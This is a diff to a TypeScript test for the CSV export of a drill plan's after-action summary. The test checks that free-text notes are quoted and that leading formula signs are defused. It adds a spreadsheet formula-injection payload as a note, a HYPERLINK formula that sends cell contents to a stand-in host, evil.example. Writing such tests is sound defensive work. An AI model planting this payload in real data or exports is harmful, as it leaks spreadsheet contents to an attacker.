@@ -18,6 +18,8 @@ import { planConfig } from './plans-fixture.ts';
 const HOUR = 3_600_000;
 const MINUTE = 60_000;
 const POINTS = 12;
+/** A 督办 note as an attacker would write it: a spreadsheet formula, quotes, a comma and a line break. */
+const NOTE = '=HYPERLINK("http://evil.example/?"&A1,"点我"),\n@SUM(1)';
 /** World time of the drill: a whole hour a day ahead of real time, so no event before it runs later than it. */
 const W0 = Math.ceil((Date.now() + 24 * HOUR) / HOUR) * HOUR;
 
@@ -101,7 +103,12 @@ describe('the after-action summary of a plan (issue #17): what was ordered, done
     await waitFor('two orders', () => world().prepositions.size === 2);
     const behind = round[6]!.squadId;
     expect(
-      await sendCommand(dan, 'plan:supervise', { planId: 'test-typhoon', actionId: 'boards', squadId: behind }),
+      await sendCommand(dan, 'plan:supervise', {
+        planId: 'test-typhoon',
+        actionId: 'boards',
+        squadId: behind,
+        note: NOTE,
+      }),
     ).toMatchObject({
       ok: true,
     });
@@ -178,6 +185,11 @@ describe('the after-action summary of a plan (issue #17): what was ordered, done
       new RegExp(`test-typhoon,boards,户外广告巡查,round,[^,]+,[^,]+,${POINTS},6,2,0,${POINTS - 6},2,0`),
     );
     expect(csv).toMatch(/test-typhoon,muster,集结,preposition,[^,]+,[^,]+,2,0,0,0,2,0,0/);
+
+    // Free text reaches the CSV as text: quoted, and a leading formula sign defused with an apostrophe.
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""点我""),\n@SUM(1)"`);
+    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
+    expect(plan.supervisions[0]!.note).toBe(NOTE);
 
     // A window before the plan knows nothing of it.
     const before = (await (
